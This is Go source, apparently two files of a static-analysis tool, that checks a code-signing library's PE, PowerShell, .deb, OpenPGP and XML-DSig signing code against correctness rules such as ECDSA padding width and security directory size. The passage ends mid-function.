	c.Rule("R14n", "a mutex that is certainly held at a return of the function that locked it is released by a deferred unlock", 30)
	for _, f := range lockLeaks(c.P) {
		c.Check(f.OK, "R14n", f.Key, f.Pos, f.Detail, f.Detail)
	}
	c.runControl("R14n lock leak control (ctl/lockleak.(*S).Get)", "lockleak.S).Get", lockLeaks)
}

func round7C06(c *Ctx) {
	c.Rule("R06i", "every OpenPGP packet.Config the module builds has DefaultHash stored before every use (the digest the audit record names is the digest signed with)", 3)
	for _, f := range pgpConfigHash(c.P) {
		c.Check(f.OK, "R06i", f.Key, f.Pos, f.Detail, f.Detail)
	}
	c.runControl("R06i packet.Config control (ctl/pgpcfg.Sign)", "pgpcfg.Sign", pgpConfigHash)
}

func round7C08(c *Ctx) {
	p := c.P
	c.Rule("R08l", "the span removed for the old signature member of a .deb is its header plus its size rounded up to even (shared with C01 R01n, C03 R03h)", 1)
	if fn := p.Func("lib/signdeb.Sign"); fn == nil {
		c.Undecided("R08l", "signdeb.Sign", "-", "function not found")
	} else {
		for _, f := range arSpanPadded(p, fn) {
			c.Check(f.OK, "R08l", f.Key, f.Pos, f.Detail, f.Detail)
		}
	}
	c.Rule("R08m", "the text size of a PowerShell script (what is digested again when a signed script is signed again) is a sum of lengths of lines read from the input (shared with C01 R01e)", 1)
	psTextSizeProvenance(c, "R08m")
}

func round7C03(c *Ctx) {
	c.Rule("R03n", "the inline PGP packet header uses the RFC 4880 length boundaries, so the merged document stays readable (shared with C01 R01j)", 2)
	for _, f := range pgpLengthThresholds(c.P) {
		c.Check(f.OK, "R03n", f.Key, f.Pos, "", f.Detail)
	}
}

func round7C05(c *Ctx) {
	c.Rule("R05u", "canonical attribute order is the standard's: namespace declarations first, by prefix; attributes by resolved namespace URI then local name (shared with C19 R19e) - the order every reference canonicaliser produces", 4)
	c19RuleAttr = "R05u"
	c19AttrOrder(c)
	c19RuleAttr = "R19e"
	c.Rule("R05v", "the size stored in the PE security data directory leaves out the alignment bytes written in front of the certificate table", 1)
	for _, f := range peCertDirSize(c.P) {
		c.Check(f.OK, "R05v", f.Key, f.Pos, f.Detail, f.Detail)
	}
}

// psTextSizeProvenance: PsDigest.TextSize (where the signature block of a PowerShell script is
// spliced in, and what a second signing run digests) is a sum of lengths of lines read from the
// input. Shared by C01 (R01e) and C08 (R08m).
func psTextSizeProvenance(c *Ctx, rule string) {
	p := c.P
	// PowerShell: TextSize provenance
	if dp := p.Func("lib/authenticode.DigestPowershell"); dp == nil {
		c.Undecided(rule, "DigestPowershell", "-", "function not found")
	} else {
		c.Analysed(p.FName(dp))
		var ts ssa.Value
		for _, b := range dp.Blocks {
			for _, in := range b.Instrs {
				if st, ok := in.(*ssa.Store); ok {
					if tn, f, _ := p.fieldAddr(st.Addr); tn == "lib/authenticode.PsDigest" && f == "TextSize" {
						ts = st.Val
					}
				}
			}
		}
		ok := ts != nil
		foreign := ""
		fromInput := false
		if ok {
			// walk the arithmetic: phis, additions, conversions, slicing and len(); any other
			// call is a leaf, and the only leaf allowed is a line read from the input
			seen := map[ssa.Value]bool{}
			var walk func(v ssa.Value)
			walk = func(v ssa.Value) {
				if v == nil || seen[v] {
					return
				}
				seen[v] = true
				switch x := v.(type) {
				case *ssa.Phi:
					for _, e := range x.Edges {
						walk(e)
					}
				case *ssa.BinOp:
					walk(x.X)
					walk(x.Y)
				case *ssa.Convert:
					walk(x.X)
				case *ssa.ChangeType:
					walk(x.X)
				case *ssa.Slice:
					walk(x.X)
					walk(x.Low)
					walk(x.High)
				case *ssa.Extract:
					walk(x.Tuple)
				case *ssa.Call:
					if bi, isB := x.Call.Value.(*ssa.Builtin); isB && bi.Name() == "len" {
						walk(x.Call.Args[0])
						return
					}
					if n := p.calleeName(x.Common()); n == "lib/authenticode.readLine" {
						fromInput = true
					} else {
						// a call all of whose arguments are constants yields the same value for every
						// input (the encoded form of the line ending): not a dependence on the input
						constArgs := len(x.Common().Args) > 0
						for _, a := range x.Common().Args {
							if _, isK := a.(*ssa.Const); !isK {
								constArgs = false
							}
						}
						if !constArgs {
							foreign = n
						}
					}
				}
			}
			walk(ts)
		}
		c.Check(ok && fromInput && foreign == "", rule, "PowerShell text size is a sum of input line lengths", p.Pos(dp.Pos()), "", "PsDigest.TextSize (the offset at which the signature block is spliced in) depends on the result of "+foreign+" rather than only on the lengths of the lines read from the input: for inputs where the two differ the block lands inside the script text")
	}
}

// statefulReaderType: in-memory readers that are used up by reading them.
func statefulReaderType(t types.Type) bool {
	if pt, ok := t.Underlying().(*types.Pointer); ok {
		t = pt.Elem()
	}
	nt, ok := t.(*types.Named)
	if !ok || nt.Obj().Pkg() == nil {
		return false
	}
	switch nt.Obj().Pkg().Path() + "." + nt.Obj().Name() {
	case "bytes.Reader", "bytes.Buffer", "strings.Reader", "bufio.Reader", "bufio.Scanner":
		return true
	}
	return false
}

// ownedStructs: the module's struct types reachable from t through fields, pointers, slices, arrays and maps.
func (p *Prog) ownedStructs(t types.Type, depth int, out map[*types.Named]bool) {
	if depth == 0 {
		return
	}
	switch x := t.(type) {
	case *types.Pointer:
		p.ownedStructs(x.Elem(), depth, out)
	case *types.Slice:
		p.ownedStructs(x.Elem(), depth, out)
	case *types.Array:
		p.ownedStructs(x.Elem(), depth, out)
	case *types.Map:
		p.ownedStructs(x.Elem(), depth, out)
	case *types.Named:
		if x.Obj().Pkg() == nil || !p.InModule(x.Obj().Pkg()) || out[x] {
			return
		}
		if st, ok := x.Underlying().(*types.Struct); ok {
			out[x] = true
			for i := 0; i < st.NumFields(); i++ {
				p.ownedStructs(st.Field(i).Type(), depth-1, out)
			}
		}
	}
}

// transformerReplay implements R09n: the state of a Transformer (its struct and the module
// structs it holds) that GetReader reads from holds no in-memory reader that reading uses up
// (bytes.Reader, bytes.Buffer, strings.Reader, bufio.Reader), unless the function that takes
// it out of the field also rewinds it (Seek / Reset). The upload is replayed after a failover
// or a 406 fallback by calling GetReader again: a used-up reader then yields an empty or
// shorter stream and the server signs something else.
func transformerReplay(p *Prog) []gFinding {
	var out []gFinding
	for _, fn := range p.Funcs {
		if fn.Name() != "GetReader" || fn.Signature.Recv() == nil || fn.Parent() != nil || fn.Signature.Params().Len() != 0 || fn.Signature.Results().Len() != 2 {
			continue
		}
		owned := map[*types.Named]bool{}
		p.ownedStructs(fn.Signature.Recv().Type(), 4, owned)
		f := gFinding{Key: p.FName(fn) + " replay", Pos: p.Pos(fn.Pos()), OK: true, Detail: fmt.Sprintf("%d state struct types, none holds a reader that reading uses up and GetReader takes without rewinding", len(owned))}
		reach := p.moduleReachOpt([]*ssa.Function{fn}, false)
		var fns []*ssa.Function
		for g := range reach {
			fns = append(fns, g)
		}
		sort.Slice(fns, func(i, j int) bool { return p.FName(fns[i]) < p.FName(fns[j]) })
		for _, g := range fns {
			rewinds := map[string]bool{}
			var loads []string
			var at []ssa.Instruction
			for _, b := range g.Blocks {
				for _, in := range b.Instrs {
					var st *types.Struct
					var nt *types.Named
					var idx int
					switch x := in.(type) {
					case *ssa.FieldAddr:
						if pt, ok := x.X.Type().Underlying().(*types.Pointer); ok {
							nt, _ = pt.Elem().(*types.Named)
						}
						idx = x.Field
					case *ssa.Field:
						nt, _ = x.X.Type().(*types.Named)
						idx = x.Field
					default:
						if ci, ok := in.(ssa.CallInstruction); ok {
							cc := ci.Common()
							name := ""
							if cc.IsInvoke() {
								name = cc.Method.Name()
							} else if o := calleeObj(cc); o != nil {
								name = o.Name()
							}
							if (name == "Seek" || name == "Reset") && len(cc.Args) > 0 {
								if _, fld, _ := p.fieldLoad(cc.Args[0]); fld != "" {
									rewinds[fld] = true
								}
							}
						}
						continue
					}
					if nt == nil || !owned[nt] {
						continue
					}
					st, _ = nt.Underlying().(*types.Struct)
					if st == nil || !statefulReaderType(st.Field(idx).Type()) {
						continue
					}
					loads = append(loads, st.Field(idx).Name())
					at = append(at, in)
				}
			}
			for i, fld := range loads {
				if !rewinds[fld] && f.OK {
					f.OK = false
					f.Detail = fmt.Sprintf("%s takes the reader in field %s (%s) without rewinding it: the second GetReader of the same transformer (failover, 406 fallback) streams what is left of it, not the same bytes", p.FName(g), fld, p.Pos(at[i].Pos()))
				}
			}
		}
		out = append(out, f)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Key < out[j].Key })
	return out
}

func round7C09(c *Ctx) {
	c.Rule("R09n", "the state a Transformer's GetReader reads from holds no in-memory reader that reading uses up, unless it is rewound where it is taken", 7)
	for _, f := range transformerReplay(c.P) {
		c.Check(f.OK, "R09n", f.Key, f.Pos, f.Detail, f.Detail)
	}
	c.runControl("R09n used-up reader control (ctl/replay.(*T).GetReader)", "replay.T).GetReader", transformerReplay)
}

// peCertDirSize implements R05v: the Size written into the PE security data directory does not
// count the alignment bytes relic puts in front of the certificate table. Where the function
// that stores pe.DataDirectory.Size (or a helper of the package it calls) writes
// CertStart-OrigSize padding bytes into the table it builds and the stored size is taken from
// the length of a buffer, that same quantity is subtracted. (A directory that runs past the
// end of the file is rejected by signtool / WinVerifyTrust; relic's own verifier re-reads only
// the first entry and does not notice.)
func peCertDirSize(p *Prog) []gFinding {
	var out []gFinding
	isPad := func(v ssa.Value) bool {
		return dependsOn(v, func(x ssa.Value) bool { return p.isFieldOf(x, "lib/authenticode.PEDigest", "CertStart") }) &&
			dependsOn(v, func(x ssa.Value) bool { return p.isFieldOf(x, "lib/authenticode.PEDigest", "OrigSize") })
	}
	for _, fn := range p.Funcs {
		if pkgOf(fn) == nil || p.Rel(pkgOf(fn).Path()) != "lib/authenticode" {
			continue
		}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				st, ok := in.(*ssa.Store)
				if !ok {
					continue
				}
				fa, ok := st.Addr.(*ssa.FieldAddr)
				if !ok {
					continue
				}
				pt, ok := fa.X.Type().Underlying().(*types.Pointer)
				if !ok {
					continue
				}
				nt, ok := pt.Elem().(*types.Named)
				if !ok || nt.Obj().Pkg() == nil || nt.Obj().Pkg().Path() != "debug/pe" || nt.Obj().Name() != "DataDirectory" {
					continue
				}
				if nt.Underlying().(*types.Struct).Field(fa.Field).Name() != "Size" {
					continue
				}
				// padding written by this function or a helper of the package (two levels)
				padWritten := ""
				fns := []*ssa.Function{fn}
				for lvl := 0; lvl < 2; lvl++ {
					for _, g := range append([]*ssa.Function(nil), fns...) {
						for _, ci := range callsOf(g) {
							if h := ci.Common().StaticCallee(); h != nil && h.Blocks != nil && pkgOf(h) == pkgOf(fn) {
								dup := false
								for _, e := range fns {
									dup = dup || e == h
								}
								if !dup {
									fns = append(fns, h)
								}
							}
						}
					}
				}
				for _, g := range fns {
					for _, gb := range g.Blocks {
						for _, gi := range gb.Instrs {
							if ms, ok := gi.(*ssa.MakeSlice); ok && isPad(ms.Len) {
								padWritten = p.Pos(ms.Pos())
							}
						}
					}
				}
				lenDep := dependsOn(st.Val, func(x ssa.Value) bool {
					if c, ok := x.(*ssa.Call); ok {
						// the length of a buffer built here (not of a parameter such as the signature itself)
						if bi, ok := c.Call.Value.(*ssa.Builtin); ok && bi.Name() == "len" {
							_, isParam := stripConv(c.Call.Args[0]).(*ssa.Parameter)
							return !isParam
						}
						if p.calleeName(c.Common()) == "(*bytes.Buffer).Len" {
							return true
						}
					}
					return false
				})
				subPad := dependsOn(st.Val, func(x ssa.Value) bool {
					bo, ok := x.(*ssa.BinOp)
					return ok && bo.Op.String() == "-" && isPad(bo.Y)
				})
				f := gFinding{Key: p.FName(fn) + " security directory size", Pos: p.Pos(st.Pos()), OK: padWritten == "" || !lenDep || subPad}
				if f.OK {
					f.Detail = "the alignment bytes in front of the certificate table are not counted"
				} else {
					f.Detail = "the size of the security directory is taken from the length of a buffer that begins with CertStart-OrigSize alignment bytes (written at " + padWritten + ") and that quantity is not subtracted: for an image whose length is not a multiple of 8 the directory runs past the end of the file and Windows rejects the signature"
				}
				out = append(out, f)
			}
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Key < out[j].Key })
	return out
}
