package main

// C19 — XML signatures depend on canonical meaning, not on serialisation.
//
// Whether SerializeCanonical equals W3C exclusive canonicalisation on every document is the
// heart of the property and is behavioural: not decided. Decided: the clauses whose truth
// is in the shape of the code — fixed-width r||s, pack/unpack pairing, algorithm tables
// that round-trip, the enveloped-signature transform order, canonical write settings, the
// attribute comparator resolving namespace URIs, and identity fields taken from the
// signing certificate.

import (
	"fmt"
	"go/ast"
	"go/constant"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID: "C19",
		Meta: propMeta{
			Explanation: "Decides structural necessary conditions (nothing is executed): (R19a) the byte width EcdsaSignature.Pack pads r and s to is data-dependent on the curve (a parameter of Pack, whose call-site argument is the signing key's Curve, or a Curve.Params() value) and not only on the bit lengths of r and s; the buffer is 2*w bytes and the halves are [0:w] and [w:], the layout UnpackEcdsaSignature splits; (R19b) xmldsig.finishSignature converts DER to r||s exactly under the *ecdsa.PublicKey type test and xmldsig.Verify converts back exactly under pubtype==\"ecdsa\"; (R19c) the algorithm tables round-trip by constant folding of the source literals: HashUris and hashNames have the same keys, every HashUris value is an accepted prefix followed by the hash name, the prefixes and key names the signer emits are the ones parseAlgs accepts, the canonicalisation and transform URIs the signer writes are the ones Verify requires; (R19d) the enveloped-signature transform: Sign removes an existing Signature before digesting and attaches the new one after, Verify detaches the Signature before digesting the reference; SerializeCanonical works on a copy with all three canonical write settings on and drops comments/PIs, and nothing in the module asks the XML parser to preserve CDATA sections or duplicate attributes; R19a also requires every curve bit length to be rounded up to bytes; (R19e) the attribute ordering function resolves prefixes to namespace URIs (Canonical XML 2.2/4.8 orders by URI, not prefix) and orders namespace declarations first; (R19f) appmanifest.Sign and the VSIX signer take the public-key token, publisher identity, signer and chain from one and the same certificate object. (R19g) xmldsig.Verify fails closed: no failed signature check and no reference-digest mismatch can end in a success return (shared with C02 R02d). (R19h) no function result - the canonical form in particular - is memory of an object that went back into a sync.Pool; (R19i) the issuerKeyHash PublisherIdentity returns is computed by x509tools.SubjectKeyID from the issuer's public key and does not depend on a SubjectKeyId/AuthorityKeyId extension field. (R19j) every namespace declaration the OPC (VSIX) signature builder writes is a default-namespace declaration (xmlns, never xmlns:prefix): the declared inclusive canonicalisation and relic's exclusive-style serialisation then yield the same bytes. (R19l) no string a function of lib/appmanifest returns is produced by strconv.FormatUint / FormatInt / Itoa or by a Sprintf verb that prints an integer without a zero-padded width: publicKeyToken and issuerKeyHash keep their leading zeros (zero instances today, positive control testdata/ctl/hexid). (R19k) the key size PublicKeyToSnk writes into the strong-name blob is 8 x len(modulus bytes), not a BitLen: the blob the publicKeyToken is computed over describes the bytes it contains.",
			NotDecided:  "equality of SerializeCanonical with W3C exclusive c14n on arbitrary documents (redundant namespace redeclarations, xml:* attribute inheritance, InclusiveNamespaces, character escaping are delegated to etree's writer and not examined); whether re-serialised signed documents still verify; correctness of PublicKeyToken/PublisherIdentity values themselves.",
			Assumptions: []string{"etree's CanonicalEndTags/CanonicalText/CanonicalAttrVal settings implement the c14n text rules", "W3C Canonical XML 1.0 section 2.2/3.3 as the reference for attribute order (PoC uses the spec's own example)"},
		},
		Run: runC19,
	})
}

func runC19(c *Ctx) {
	c.Rule("R19a", "ECDSA r||s halves are padded to a width derived from the curve; layout matches the unpacker", 4)
	c.Rule("R19b", "DER<->r||s conversion happens exactly for ECDSA keys on both the signing and the verifying side", 4)
	c.Rule("R19c", "algorithm URI tables emitted by the signer are accepted by the verifier", 12)
	c.Rule("R19d", "enveloped-signature transform order and canonical write settings", 7)
	c.Rule("R19e", "attribute ordering resolves namespace URIs per element; declarations first", 4)
	c.Rule("R19f", "identity fields, signer and chain come from one certificate object and are written on every success path", 7)
	c.Rule("R19g", "xmldsig.Verify fails closed: no failed signature check or digest mismatch ends in success", 3)
	c19Pack(c)
	c19Pairing(c)
	c19Tables(c)
	c19Transform(c)
	c19AttrOrder(c)
	c19Identity(c)
	c19FailClosed(c)
	c19Round3(c)
}

// ------------------------------------------------------------------------------ R19a

func c19Pack(c *Ctx) {
	p := c.P
	// the packer is whatever method of EcdsaSignature xmldsig.finishSignature turns the value into bytes with
	var pack *ssa.Function
	if _, fin, _ := xmlFinishHost(p); fin != nil {
		for _, b := range fin.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				f := ci.Common().StaticCallee()
				if f == nil || f.Signature.Recv() == nil || !strings.HasSuffix(f.Signature.Recv().Type().String(), "x509tools.EcdsaSignature") {
					continue
				}
				if f.Name() != "Marshal" {
					pack = f
				}
			}
		}
	}
	if pack == nil {
		c.Undecided("R19a", "r||s packer used by xmldsig.finishSignature", "-", "no call of an EcdsaSignature method found in finishSignature")
		return
	}
	c.Analysed(p.FName(pack))
	fills := p.callsIn(pack, "(*math/big.Int).FillBytes")
	if len(fills) != 2 {
		c.Undecided("R19a", p.FName(pack)+" FillBytes calls", p.Pos(pack.Pos()), fmt.Sprintf("%d FillBytes calls found, 2 expected (r and s)", len(fills)))
		return
	}
	// the two destination slices
	var width ssa.Value
	okLayout := true
	var buf ssa.Value
	for i, ci := range fills {
		sl, ok := ci.Common().Args[1].(*ssa.Slice)
		if !ok {
			okLayout = false
			continue
		}
		if buf == nil {
			buf = sl.X
		} else if buf != sl.X {
			okLayout = false
		}
		switch i {
		case 0: // [0:w] (Low nil or 0)
			if sl.Low != nil && !isIntConst(sl.Low, 0) {
				okLayout = false
			}
			width = sl.High
		case 1: // [w:]
			if sl.High != nil || sl.Low == nil || sl.Low != width {
				okLayout = false
			}
		}
	}
	if ms, ok := buf.(*ssa.MakeSlice); ok && width != nil {
		bo, isMul := ms.Len.(*ssa.BinOp)
		if !isMul || bo.Op != token.MUL || !((isIntConst(bo.X, 2) && bo.Y == width) || (isIntConst(bo.Y, 2) && bo.X == width)) {
			okLayout = false
		}
	} else {
		okLayout = false
	}
	c.Check(okLayout, "R19a", p.FName(pack)+" layout r[0:w] s[w:2w]", p.Pos(pack.Pos()), "buffer of 2*w bytes, halves [0:w] and [w:]", "Pack does not lay r and s out as two equal halves of one 2*w buffer, which is what UnpackEcdsaSignature and every XML-DSig verifier split")
	if width == nil {
		return
	}
	recv := pack.Params[0]
	curveDerived := func(x ssa.Value) bool {
		if pa, ok := x.(*ssa.Parameter); ok && pa != recv {
			return true
		}
		if call, ok := x.(*ssa.Call); ok {
			n := p.calleeName(call.Common())
			if n == "(crypto/elliptic.Curve).Params" {
				return true
			}
		}
		if tn, _, _ := p.fieldLoad(x); strings.HasSuffix(tn, "crypto/elliptic.CurveParams") {
			return true
		}
		return false
	}
	dep := dependsOn(width, curveDerived)
	c.Check(dep, "R19a", p.FName(pack)+" width derives from the curve", p.Pos(pack.Pos()), "the padding width depends on a curve parameter",
		"the width r and s are padded to is computed only from BitLen() of r and s themselves: whenever both have leading zero bytes (about 1 in 4 signatures on P-521, 1 in 65536 on P-256) the SignatureValue is shorter than 2*ceil(n/8) bytes, which XML-DSig 6.4.3 verifiers reject")
	// the width is a whole number of bytes: a bit length is rounded up, never down (P-521: 521 bits
	// are 66 bytes, not 65)
	roundsDown := ""
	dependsOn(width, func(x ssa.Value) bool {
		bo, ok := x.(*ssa.BinOp)
		if !ok {
			return false
		}
		if !((bo.Op == token.QUO && isIntConst(bo.Y, 8)) || (bo.Op == token.SHR && isIntConst(bo.Y, 3))) {
			return false
		}
		if !dependsOn(bo.X, curveDerived) {
			return false
		}
		if add, isAdd := bo.X.(*ssa.BinOp); isAdd && add.Op == token.ADD && (isIntConst(add.X, 7) || isIntConst(add.Y, 7)) {
			return false
		}
		roundsDown = p.Pos(bo.Pos())
		return false
	})
	c.Check(roundsDown == "", "R19a", p.FName(pack)+" width rounds the curve's bit length up", p.Pos(pack.Pos()), "every bits/8 on a curve parameter is (bits+7)/8",
		"the byte width is a curve bit length divided by 8 without rounding up (at "+roundsDown+"): on P-521 (521 bits) r and s are padded to 65 bytes instead of 66, so a quarter of the signatures come out 130 bytes long and fixed-width verifiers reject them")
	// call sites hand over the signing key's curve
	n := 0
	for _, fn := range p.Funcs {
		for _, ci := range p.callsIn(fn, p.FName(pack)) {
			n++
			key := fmt.Sprintf("%s Pack call#%d", p.FName(fn), n)
			if len(ci.Common().Args) < 2 {
				c.Fail("R19a", key, p.Pos(ci.Pos()), "Pack is called without a curve")
				continue
			}
			ok := dependsOn(ci.Common().Args[1], func(x ssa.Value) bool {
				tn, f, _ := p.fieldLoad(x)
				if strings.HasSuffix(tn, "crypto/ecdsa.PublicKey") || strings.HasSuffix(tn, "crypto/elliptic.Curve") {
					return f == "Curve" || f == ""
				}
				if fa, isFA := x.(*ssa.FieldAddr); isFA {
					tn2, f2, _ := p.fieldAddr(fa)
					return strings.HasSuffix(tn2, "crypto/ecdsa.PublicKey") && f2 == "Curve"
				}
				return false
			})
			c.Check(ok, "R19a", key, p.Pos(ci.Pos()), "argument is the public key's Curve", "the curve handed to Pack is not the signing key's curve")
		}
	}
	if n == 0 {
		c.Undecided("R19a", "Pack call sites", "-", "no caller of Pack found")
	}
	// the unpacker splits in the middle and rejects odd lengths
	if un := p.Func("lib/x509tools.UnpackEcdsaSignature"); un != nil {
		c.Analysed(p.FName(un))
		half := false
		for _, b := range un.Blocks {
			for _, in := range b.Instrs {
				if bo, ok := in.(*ssa.BinOp); ok && bo.Op == token.QUO && isIntConst(bo.Y, 2) {
					if call, ok := bo.X.(*ssa.Call); ok {
						if bi, ok := call.Call.Value.(*ssa.Builtin); ok && bi.Name() == "len" {
							half = true
						}
					}
				}
			}
		}
		sets := p.callsIn(un, "(*math/big.Int).SetBytes")
		c.Check(half && len(sets) == 2, "R19a", p.FName(un)+" splits in the middle", p.Pos(un.Pos()), "len/2, two SetBytes", "UnpackEcdsaSignature no longer splits the value into two equal halves")
	} else {
		c.Undecided("R19a", "UnpackEcdsaSignature", "-", "function not found")
	}
}

// ------------------------------------------------------------------------------ R19b

func c19Pairing(c *Ctx) {
	p := c.P
	outer, fin, via := xmlFinishHost(p)
	ver := p.Func("lib/xmldsig.Verify")
	if fin == nil || ver == nil {
		c.Undecided("R19b", "finishSignature/Verify", "-", "function not found")
		return
	}
	c.Analysed(p.FName(fin))
	c.Analysed(p.FName(ver))
	// sign side: Unmarshal + Pack behind the *ecdsa.PublicKey type test
	isEcdsaAssert := Guard{Name: "key is *ecdsa.PublicKey", Match: func(f Fact) bool {
		ex, ok := f.V.(*ssa.Extract)
		if !ok || f.Kind != IsTrue || ex.Index != 1 {
			return false
		}
		ta, ok := ex.Tuple.(*ssa.TypeAssert)
		return ok && strings.HasSuffix(ta.AssertedType.String(), "crypto/ecdsa.PublicKey")
	}}
	packName := "(lib/x509tools.EcdsaSignature).Pack"
	for _, alt := range []string{"(lib/x509tools.EcdsaSignature).PackCurve"} {
		if len(p.callsIn(fin, alt)) > 0 {
			packName = alt
		}
	}
	for _, name := range []string{"lib/x509tools.UnmarshalEcdsaSignature", packName} {
		cs := p.callsIn(fin, name)
		if len(cs) != 1 {
			c.Fail("R19b", "finishSignature calls "+name, p.Pos(fin.Pos()), fmt.Sprintf("%d calls found, 1 expected: ECDSA values are not converted from DER to r||s", len(cs)))
			continue
		}
		missing, path := p.unguardedFromEntry(fin, cs[0], isEcdsaAssert)
		c.Check(len(missing) == 0, "R19b", "finishSignature "+name+" only for ECDSA keys", p.Pos(cs[0].Pos()), "behind the *ecdsa.PublicKey type test", "the DER to r||s conversion also runs for keys that are not ECDSA (an RSA signature would be mangled)", path...)
	}
	// the conversion is not skippable for ECDSA: the encoded value on the ECDSA edge is the packed one
	if packs := p.callsIn(fin, packName); len(packs) == 1 {
		enc := p.callsIn(outer, "(*encoding/base64.Encoding).EncodeToString")
		ok := false
		for _, e := range enc {
			if dependsOn(e.Common().Args[1], func(x ssa.Value) bool { return x == packs[0].Value() }) {
				ok = true
			}
			// through the named step: what is encoded is that step's result, and the step returns the packed value
			if via != nil && dependsOn(e.Common().Args[1], func(x ssa.Value) bool { return x == via.Value() }) {
				for _, r := range returnsOf(fin) {
					if len(r.Results) > 0 && dependsOn(retVal(r, 0), func(x ssa.Value) bool { return x == packs[0].Value() }) {
						ok = true
					}
				}
			}
		}
		c.Check(ok, "R19b", "finishSignature encodes the packed value", p.Pos(fin.Pos()), "", "the SignatureValue written is not the packed r||s value")
	}
	// verify side
	isEcdsaStr := Guard{Name: `pubtype == "ecdsa"`, Match: func(f Fact) bool {
		bo, ok := f.V.(*ssa.BinOp)
		if !ok {
			return false
		}
		want := (bo.Op == token.EQL && f.Kind == IsTrue) || (bo.Op == token.NEQ && f.Kind == IsFalse)
		if !want {
			return false
		}
		sx, okx := constString(bo.X)
		sy, oky := constString(bo.Y)
		return (okx && sx == "ecdsa") || (oky && sy == "ecdsa")
	}}
	for _, name := range []string{"lib/x509tools.UnpackEcdsaSignature", "(lib/x509tools.EcdsaSignature).Marshal"} {
		cs := p.callsIn(ver, name)
		if len(cs) != 1 {
			c.Fail("R19b", "Verify calls "+name, p.Pos(ver.Pos()), fmt.Sprintf("%d calls found, 1 expected: r||s values are not converted back to DER", len(cs)))
			continue
		}
		missing, path := p.unguardedFromEntry(ver, cs[0], isEcdsaStr)
		c.Check(len(missing) == 0, "R19b", "Verify "+name+" only for ECDSA signatures", p.Pos(cs[0].Pos()), `behind pubtype == "ecdsa"`, "the r||s to DER conversion also runs for non-ECDSA signature methods", path...)
	}
}

// ------------------------------------------------------------------------------ R19c

// constMapLiteral evaluates a package-level `var name = map[K]V{...}` or `[]string{...}` whose
// keys and values are constant expressions.
func (p *Prog) constLiteral(rel, name string) (keys []string, vals []string, ok bool) {
	pk := p.Pkg(rel)
	if pk == nil {
		return nil, nil, false
	}
	for _, f := range pk.Syntax {
		for _, d := range f.Decls {
			gd, isG := d.(*ast.GenDecl)
			if !isG || gd.Tok != token.VAR {
				continue
			}
			for _, sp := range gd.Specs {
				vs := sp.(*ast.ValueSpec)
				for i, id := range vs.Names {
					if id.Name != name || i >= len(vs.Values) {
						continue
					}
					cl, isCL := vs.Values[i].(*ast.CompositeLit)
					if !isCL {
						return nil, nil, false
					}
					for _, el := range cl.Elts {
						var k, v ast.Expr
						if kv, isKV := el.(*ast.KeyValueExpr); isKV {
							k, v = kv.Key, kv.Value
						} else {
							v = el
						}
						ks := ""
						if k != nil {
							ks = types.ExprString(k)
							if tv, has := pk.TypesInfo.Types[k]; has && tv.Value != nil {
								ks = tv.Value.ExactString()
							}
						}
						tv, has := pk.TypesInfo.Types[v]
						if !has || tv.Value == nil {
							return nil, nil, false
						}
						keys = append(keys, ks)
						if tv.Value.Kind() == constant.String {
							vals = append(vals, constant.StringVal(tv.Value))
						} else {
							vals = append(vals, tv.Value.ExactString())
						}
					}
					return keys, vals, true
				}
			}
		}
	}
	return nil, nil, false
}

// stringConstsIn: string constants appearing as operands in fn (comparison or any use).
func stringConstsIn(fn *ssa.Function, onlyCompared bool) map[string]bool {
	out := map[string]bool{}
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			if onlyCompared {
				bo, ok := in.(*ssa.BinOp)
				if !ok || (bo.Op != token.EQL && bo.Op != token.NEQ) {
					continue
				}
			}
			for _, op := range in.Operands(nil) {
				if *op == nil {
					continue
				}
				if s, ok := constString(*op); ok {
					out[s] = true
				}
			}
		}
	}
	return out
}

func c19Tables(c *Ctx) {
	p := c.P
	const rel = "lib/xmldsig"
	hk, hv, ok1 := p.constLiteral(rel, "hashNames")
	uk, uv, ok2 := p.constLiteral(rel, "HashUris")
	_, prefixes, ok3 := p.constLiteral(rel, "nsPrefixes")
	if !ok1 || !ok2 || !ok3 {
		c.Undecided("R19c", "algorithm tables", "-", fmt.Sprintf("hashNames/HashUris/nsPrefixes literals not constant-foldable (%v %v %v)", ok1, ok2, ok3))
		return
	}
	names := map[string]string{}
	for i, k := range hk {
		names[k] = hv[i]
	}
	c.Check(len(hk) >= 5 && len(hk) == len(uk), "R19c", "HashUris and hashNames have the same keys", "-", fmt.Sprintf("%d hashes", len(hk)), fmt.Sprintf("hashNames has %d entries, HashUris %d: a hash the signer can name has no URI, or the other way round", len(hk), len(uk)))
	for i, k := range uk {
		name, has := names[k]
		okURI := false
		for _, pre := range prefixes {
			if has && uv[i] == pre+name {
				okURI = true
			}
		}
		c.Check(okURI, "R19c", "HashUris["+k+"] is an accepted prefix + hash name", "-", uv[i], fmt.Sprintf("the digest URI %q that the signer writes for hash %s is not <accepted prefix>+%q, so HashAlgorithm does not map it back: relic rejects its own signatures and so does every verifier", uv[i], k, name))
	}
	// signer side: prefixes and key names
	ha := p.Func(rel + ".hashAlgs")
	pa := p.Func(rel + ".parseAlgs")
	if ha == nil || pa == nil {
		c.Undecided("R19c", "hashAlgs/parseAlgs", "-", "function not found")
		return
	}
	c.Analysed(p.FName(ha))
	c.Analysed(p.FName(pa))
	emitted := stringConstsIn(ha, false)
	accepted := stringConstsIn(pa, true)
	preSet := map[string]bool{}
	for _, pre := range prefixes {
		preSet[pre] = true
	}
	for _, s := range sortedKeys(emitted) {
		switch {
		case strings.HasPrefix(s, "http://"):
			c.Check(preSet[s], "R19c", "hashAlgs emits prefix "+s, p.Pos(ha.Pos()), "in nsPrefixes", "the signer builds algorithm URIs with the prefix "+s+", which parseAlgs does not strip")
		case s == "rsa" || s == "ecdsa" || s == "dsa" || s == "ed25519" || s == "hmac":
			c.Check(accepted[s], "R19c", "hashAlgs emits key type "+s, p.Pos(ha.Pos()), "accepted by parseAlgs", "the signer emits the signature method name "+s+", which parseAlgs does not accept")
		}
	}
	for _, s := range sortedKeys(accepted) {
		if s == "rsa" || s == "ecdsa" {
